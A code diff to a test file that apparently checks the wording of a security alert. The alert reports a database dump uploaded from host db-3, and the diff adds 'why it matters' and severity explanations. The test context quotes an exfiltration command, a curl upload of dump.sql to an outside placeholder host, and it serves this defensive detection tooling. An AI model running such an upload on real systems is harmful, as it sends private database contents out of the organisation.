@@ -44,6 +44,9 @@ describe('text', () => {
 
       curl ran on db-3 as \`curl -T dump.sql https://files.example\`.
 
+      Why it matters:
+        Whoever has the dump of db-3 has all of its rows.
+
       host     db-3
       user     deploy
       events   2 from 2026-03-01T00:00:00.000Z to 2026-03-01T00:01:00.000Z
@@ -62,6 +65,9 @@ describe('text', () => {
 
       What to check:
         1. Ask deploy about unknown
+
+      Why high:
+        Dumps are also taken by deploy for good reasons.
 
       Known false positives:
         - Backups
